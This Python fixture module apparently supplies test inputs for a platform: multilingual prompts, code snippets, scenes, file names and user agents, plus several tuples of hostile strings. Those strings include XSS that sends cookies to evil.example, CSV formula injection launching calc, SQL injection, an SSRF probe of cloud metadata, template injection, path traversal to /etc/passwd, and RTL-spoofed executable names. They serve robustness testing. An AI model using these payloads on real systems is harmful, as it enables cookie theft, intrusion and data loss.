"""What the people of the sample platforms type, name and draw: plain, foreign, and hostile.

Always true here: every hostile text is one that PostgreSQL accepts and a careless page, table or archive does not.
"""

HOSTILE_NAMES = (
    '<img src=x onerror="alert(1)"> Mallory',
    '=HYPERLINK("https://evil.example/?x="&A1,"Click me")',
    "Eve \u202egnp.exe\u202c & \u2067friends\u2069",
    "O’Brien'); DROP TABLE accounts;--",
)

HOSTILE = (
    "<script>document.location='https://evil.example/'+document.cookie</script>",
    "<img src=http://169.254.169.254/latest/meta-data/><link rel=stylesheet href=file:///etc/passwd>",
    "</pre></td></tr></table><h1>Your data was deleted</h1>",
    '=HYPERLINK("https://evil.example","open")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTab first, =1+1",
    "\r=1+1 after a carriage return",
    "＝1+1 full width",
    "Right to left: \u202eתשובה\u202c, isolated \u2067abc\u2069, marks \u200f\u200e",
    "Zero width: a\u200bb\u200dc\ufeffd, soft\u00adhyphen, line\u2028separator, paragraph\u2029separator",
    "Control: \x01\x02\x07\x08\x0b\x0c\x1b[31mred\x1b[0m\x7f\x85\x9b",
    "Almost NUL: \u2400 \\u0000 %00 \\x00",
    "Emoji: 👩‍🎨🏳️‍🌈👨‍👩‍👧‍👦🇫🇷 and combining: Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!",
    "Noncharacters: \ufffe \uffff \U0001fffe, private: \ue000, unpaired looking: \ufffd",
    "Scripts: العربية עברית 中文 日本語 한국어 ไทย हिन्दी Ελληνικά Русский",
    "{{ 7*7 }} ${7*7} <%= 7*7 %> #{7*7} %s %(name)s {0.__class__}",
    "\"quotes\", 'single', `back`, \\backslash\\, trailing\\",
    "line one\nline two\r\nline three\n\n\n",
    " leading and trailing space ",
    "../../../../etc/passwd",
    "&lt;b&gt;already escaped&lt;/b&gt; &amp; &nbsp; &#0;",
    "a" * 3_000,
    "",
)

HOSTILE_FILE_NAMES = (
    "../../etc/passwd",
    "..\\..\\windows\\system32\\evil.exe",
    "/etc/shadow",
    "C:\\temp\\report.csv",
    "invoice\u202efdp.exe",
    "<img src=x>.png",
    "=cmd|' /C calc'!A0.csv",
    "line\nbreak.txt",
    "con.txt",
    " .hidden ",
    "🎨 dessin d’été.png",
    "x" * 240 + ".txt",
)

LONGEST = "This line is repeated until the text is a megabyte long. Cette ligne aussi, élève 👩‍🎨.\n" * 10_800
"""About 1 MB in UTF-8."""

PROMPTS = (
    "Write a small script that renames my holiday photos by the date they were taken.",
    "Turn this CSV of museum opening hours into a calendar file, and skip the days that are closed.",
    "Why does my recipe site show the wrong number of portions when I double it?",
    "Écris une fonction qui compte les jours ouvrés entre deux dates, avec les jours fériés français.",
    "Mon tableau de dépenses est trop lent\u00a0: trouve pourquoi et propose mieux.",
    "Ajoute des tests à ce petit serveur de scores pour un jeu de société.",
    "Schreibe mir ein Skript, das doppelte Bilder in einem Ordner findet.",
    "Erkläre Zeile für Zeile, was diese Abfrage tut, und mach sie schneller.",
    "Escribe una página sencilla con el menú de la semana de un comedor escolar.",
    "Napisz funkcję, która sprawdza poprawność numeru konta.",
    "Γράψε ένα πρόγραμμα που μετρά τις λέξεις σε ένα κείμενο.",
    "写一个把摄氏度换算成华氏度的小程序。",
    "Make a timer for the kitchen that works without a network and rings three times.",
    "Refactor this class into plain functions; keep the tests green.",
    "Draw a bus timetable as a table that also reads well on a phone.",
    "Please add dark mode to my wedding page, but keep the flowers.",
)

CODE = (
    ("python", "rename.py", 'from pathlib import Path\n\nfor photo in Path().glob("*.jpg"):\n    print(photo.name)\n'),
    (
        "python",
        "days.py",
        "def working_days(span, holidays):\n    return [day for day in span if day not in holidays]\n",
    ),
    ("javascript", "timer.js", "let left = 300;\nsetInterval(() => {\n  left -= 1;\n}, 1000);\n"),
    ("html", "index.html", "<!doctype html>\n<title>Menu</title>\n<h1>Menu de la semaine</h1>\n<p>Lundi</p>\n"),
    ("sql", "expenses.sql", "SELECT month, sum(amount)\nFROM expenses\nGROUP BY month\nORDER BY month;\n"),
    ("css", "dark.css", "@media (prefers-color-scheme: dark) {\n  body { background: #12151f; }\n}\n"),
)

SCENES = (
    ("A rainy Monday at the office", "The coffee machine hands out umbrellas instead of coffee."),
    ("A village fair", "A goose wins the cake contest and refuses to give a speech."),
    ("Un lundi à la boulangerie", "Le croissant demande une augmentation\u00a0; la boulangère compte ses miettes."),
    (
        "Les vacances d’une famille de hérissons",
        "Le plus petit a oublié son sac à dos et part avec une feuille de salade.",
    ),
    ("Am Bahnhof", "Ein Zug kommt zu früh und entschuldigt sich bei allen."),
    ("Una biblioteca de noche", "Los libros se leen unos a otros en voz baja."),
    ("Το σχολείο", "Ο δάσκαλος μαθαίνει από τη γάτα να κοιμάται."),
    ("A lighthouse", "The keeper teaches a gull to read; it only likes the weather report."),
)

CHARACTERS = ("Madame Pivoine", "Bob the umbrella", "Petit Hérisson", "Frau Zahnrad", "Capitán Sombra", "ねこ先生")
STYLES = ("ink", "watercolour", "pencil", "flat")

FILE_NAMES = (
    "museum-hours",
    "recipes",
    "notes de réunion",
    "plan du jardin",
    "Haushaltsbuch",
    "scores",
    "été 2026",
    "photo",
)

BROWSERS = (
    "Mozilla/5.0 (Android 15; Mobile; rv:143.0) Gecko/143.0 Firefox/143.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 26_0 like Mac OS X) AppleWebKit/605.1.15 Version/26.0 Safari/604.1",
    "Mozilla/5.0 (X11; Linux x86_64; rv:143.0) Gecko/20100101 Firefox/143.0",
)
